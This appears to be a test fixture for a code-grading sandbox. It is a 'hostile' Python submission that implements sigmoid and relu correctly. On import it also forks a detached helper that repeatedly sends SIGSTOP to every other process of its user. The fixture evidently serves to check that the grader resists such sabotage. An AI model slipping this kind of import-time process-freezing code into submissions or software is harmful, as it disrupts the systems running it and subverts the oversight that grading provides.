"""Hostile: at import, leaves a detached helper that stops (SIGSTOP) every other process of its uid as soon as it
appears (as a stopper that becomes the worker's uid, leftovers.stop_uid, would), and keeps running. Judged: sigmoid and relu pass; the
grading completes, and the helper ends with the worker (root stops and kills the uid's processes itself)."""

import os
import signal
import time

import numpy as np


def _stop_everyone_else(worker: int) -> None:
    me = os.getpid()
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (me, worker):
                try:
                    if os.stat(f"/proc/{name}").st_uid == os.getuid():
                        os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
        time.sleep(0.001)


WORKER = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _stop_everyone_else(WORKER)
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.1)


def sigmoid(x):
    x = np.asarray(x, dtype=np.result_type(x, 1.0))  # float inputs keep their dtype, as the contract says
    e = np.exp(-np.abs(x))
    out = np.where(x >= 0, 1 / (1 + e), e / (1 + e))
    return out[()] if out.ndim == 0 else out


def relu(x):
    return np.maximum(x, False)  # a zero of the input's own dtype, bool included (relu keeps the dtype)
